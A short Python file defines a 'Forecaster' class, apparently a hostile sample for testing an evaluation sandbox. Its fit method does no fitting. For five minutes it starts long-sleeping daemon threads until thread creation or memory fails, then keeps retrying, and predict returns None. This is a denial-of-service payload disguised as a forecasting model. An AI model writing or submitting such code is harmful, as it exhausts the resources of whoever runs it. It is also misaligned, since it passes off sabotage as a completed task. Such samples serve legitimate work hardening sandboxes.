"""Starts threads until it cannot."""

import threading
import time


class Forecaster:
    def fit(self, history, *, horizon, seed):
        threading.stack_size(65536)
        until = time.monotonic() + 300
        while time.monotonic() < until:
            try:
                threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
            except (RuntimeError, MemoryError):
                time.sleep(0.01)

    def predict(self, context):
        return None
